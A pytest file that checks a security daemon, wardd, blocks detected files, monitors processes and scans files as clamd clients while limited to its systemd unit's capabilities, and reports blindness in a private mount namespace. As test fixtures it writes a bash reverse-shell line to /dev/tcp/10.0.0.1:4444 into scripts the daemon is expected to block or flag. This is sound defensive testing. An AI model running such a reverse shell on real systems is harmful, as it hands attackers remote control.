"""
The shipped systemd units, tried without systemd: wardd started with
exactly the capabilities its unit leaves it (CapabilityBoundingSet) and
NoNewPrivileges must still do every job that needs a privilege — deny the
execution of a detected file on a watched mount, see processes through the
kernel's process connector, and open a clamd client's path as that client.
A capability missing from the unit would pass every other test (they run
as full root) and fail only on an installed host.

The installed packages and the units under systemd itself are tested by
test_packages.py.
"""

import os
import pathlib
import re
import shutil
import stat
import subprocess
import tempfile

from agentlib import Agent, onaccess_box, wait_events
from conftest import EICAR, REPO
from test_clamd import ask

UNITS = os.path.join(REPO, "packaging", "systemd")


def unit_setting(unit, key):
    """The value of key= in the unit's source (the last one, as systemd)."""
    with open(os.path.join(UNITS, unit + ".in")) as f:
        values = re.findall(r"(?m)^%s=(.*)$" % re.escape(key), f.read())
    assert values, "%s has no %s=" % (unit, key)
    return values[-1].strip()


def as_the_unit(unit):
    """setpriv arguments giving what the unit gives: its bounding set
    (root's permitted and effective sets become exactly that at exec) and
    no_new_privs."""
    caps = unit_setting(unit, "CapabilityBoundingSet").split()
    assert caps and all(c.startswith("CAP_") for c in caps), caps
    assert unit_setting(unit, "NoNewPrivileges") == "yes"
    names = ",".join("+" + c[4:].lower() for c in caps)
    return ["setpriv", "--bounding-set=-all," + names, "--inh-caps=-all", "--no-new-privs",
            "--"]


def write_exec(path, data):
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, 0o755)
    return path


def test_wardd_does_its_work_with_the_units_capabilities(ward, tmp_path):
    prefix = as_the_unit("wardd.service")
    # The bounding set really is the unit's: read back from the process.
    p = subprocess.run(prefix + ["grep", "^CapEff", "/proc/self/status"],
                       stdout=subprocess.PIPE, text=True, timeout=30)
    assert p.returncode == 0 and int(p.stdout.split()[1], 16) != 0, p.stdout
    full = subprocess.run(["grep", "^CapEff", "/proc/self/status"], stdout=subprocess.PIPE,
                          text=True).stdout.split()[1]
    assert int(p.stdout.split()[1], 16) < int(full, 16), "the unit should drop capabilities"

    # A directory every user can enter (pytest's tmp_path is root's alone):
    # the clamd socket and the file the client asks about.
    shared = tempfile.mkdtemp(prefix="ward-e2e-unit-", dir="/tmp")
    os.chmod(shared, 0o755)
    with onaccess_box(ward, tmp_path, "unit") as box:
        d = tmp_path / "unit-agent"
        d.mkdir()
        sock = os.path.join(shared, "clamd.sock")
        a = Agent(ward, d, [box.rel[1]], prefix=prefix, extra=[
            "onaccess:", "  paths: [%s]" % box.mnt,
            "clamd:", "  enabled: yes", "  socket: %s" % sock, "  socket_mode: \"0666\""])
        a.start()
        try:
            assert a.apply(box.v1).returncode == 0
            st = a.status()
            assert st["mode"] == "protecting", st
            assert st["sensors"]["procmon"]["state"] == "on", st["sensors"]

            # fanotify (CAP_SYS_ADMIN): a detected file's execution is denied.
            bad = write_exec(os.path.join(box.mnt, "update.sh"),
                             b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
            good = write_exec(os.path.join(box.mnt, "good.sh"), b"#!/bin/sh\necho ran\n")
            p = subprocess.run(["sh", "-c", good], stdout=subprocess.PIPE, timeout=30)
            assert p.returncode == 0 and p.stdout == b"ran\n"
            p = subprocess.run(["sh", "-c", bad], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               timeout=30)
            assert p.returncode == 126 and b"Operation not permitted" in p.stderr, p

            # The process connector (CAP_NET_ADMIN): the default content's
            # reverse-shell rule sees this bash.
            subprocess.run(["bash", "-c", "sleep 1; true # >& /dev/tcp/10.0.0.1/4444"],
                           timeout=30)
            assert any(e["rule"]["name"].startswith("Reverse shell through")
                       for e in wait_events(a, "process-rule-matched"))

            # clamd SCAN opens the path as the client (CAP_SETUID, CAP_SETGID):
            # a file only its owner may read is found for the owner...
            owner = 65534
            f = pathlib.Path(shared) / "eicar.com"
            f.write_bytes(EICAR)
            os.chown(f, owner, owner)
            os.chmod(f, 0o600)
            q = subprocess.run(["setpriv", "--reuid=%d" % owner, "--regid=%d" % owner,
                                "--clear-groups", "--", "/usr/bin/python3", "-c",
                                "import socket,sys; s=socket.socket(socket.AF_UNIX); "
                                "s.connect(sys.argv[1]); s.sendall(sys.argv[2].encode()); "
                                "print(s.recv(4096).decode(), end='')",
                                sock, "nSCAN %s\n" % f], stdout=subprocess.PIPE, text=True,
                               timeout=60)
            assert q.stdout == "%s: EICAR_Test_File FOUND\n" % f, q
            # ...and root's own socket client sees it too.
            assert ask(sock, b"nSCAN %s\n" % str(f).encode()) == \
                b"%s: EICAR_Test_File FOUND\n" % str(f).encode()
            assert stat.S_IMODE(os.stat(sock).st_mode) == 0o666
        finally:
            a.stop()
            shutil.rmtree(shared, ignore_errors=True)


def test_wardd_in_a_private_mount_namespace_says_it_is_blind(ward, tmp_path):
    """Why wardd's unit has no ProtectSystem= (and no option that makes a
    mount namespace): there, a mount mark is on wardd's copy of the mount,
    and the host's executions are never seen.  wardd says so in its status
    and journal, instead of claiming a protection it does not give."""
    with onaccess_box(ward, tmp_path, "unit") as box:
        d = tmp_path / "ns-agent"
        d.mkdir()
        a = Agent(ward, d, [box.rel[1]], extra=["onaccess:", "  paths: [%s]" % box.mnt],
                  prefix=["unshare", "--mount", "--propagation", "slave", "--"])
        a.start()
        try:
            assert a.apply(box.v1).returncode == 0
            bad = write_exec(os.path.join(box.mnt, "update.sh"),
                             b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
            p = subprocess.run(["sh", "-c", bad], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, timeout=30)
            assert b"Operation not permitted" not in p.stderr, "the kernel changed: " \
                "mount marks now see other namespaces' accesses (the unit may be stricter)"
            st = a.status()["sensors"]["onaccess"]
            assert "runs in a mount namespace of its own" in st.get("partial", ""), st
            assert any("mount namespace of its own" in e.get("message", "")
                       for e in wait_events(a, "sensor-partial"))
        finally:
            a.stop()
    # The unit keeps wardd in the host's mount namespace.
    with open(os.path.join(UNITS, "wardd.service.in")) as f:
        text = f.read()
    for opt in ("ProtectSystem", "ProtectHome", "PrivateTmp", "PrivateDevices", "ReadWritePaths",
                "ReadOnlyPaths", "InaccessiblePaths", "ProtectKernelTunables",
                "ProtectKernelModules", "ProtectKernelLogs", "ProtectControlGroups",
                "ProtectProc", "ProcSubset", "PrivateMounts", "BindPaths", "TemporaryFileSystem",
                "RootDirectory", "MountAPIVFS", "PrivateNetwork", "PrivateUsers"):
        assert not re.search(r"(?m)^%s=" % opt, text), opt
